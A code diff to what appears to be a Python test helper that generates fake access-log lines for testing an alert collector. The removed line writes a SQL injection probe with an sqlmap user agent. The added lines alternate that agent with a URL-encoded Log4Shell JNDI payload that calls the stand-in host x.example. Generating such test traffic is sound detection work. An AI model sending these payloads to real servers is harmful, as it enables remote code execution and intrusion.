@@ -121,8 +121,10 @@ async def trickle(folder: Path, at: Servers, lines: int) -> list[Sent]:
 def _line(number: int) -> bytes:
     now = datetime.now(timezone(timedelta(seconds=ZONE))).strftime("%d/%b/%Y:%H:%M:%S %z")
     address = f"198.18.{number // 250}.{number % 250 + 1}"
-    request = f"GET /tim-kiem?q=\\x22%20union%20select%201,2,3--&n={number} HTTP/1.1"
-    return f'{address} - - [{now}] "{request}" 404 162 "-" "sqlmap/1.8"'.encode()
+    # By turns, since from 100 addresses on a rule's alerts are folded into one
+    attack, agent = ("", "sqlmap/1.8") if number % 2 else ("%24%7Bjndi:ldap://x.example/a%7D", "Mozilla/5.0")
+    request = f"GET /tim-kiem?n={number}&q=a{attack} HTTP/1.1"
+    return f'{address} - - [{now}] "{request}" 404 162 "-" "{agent}"'.encode()
 
 
 def _collector(folder: Path, settings: Settings, port: int) -> subprocess.Popen[bytes]:
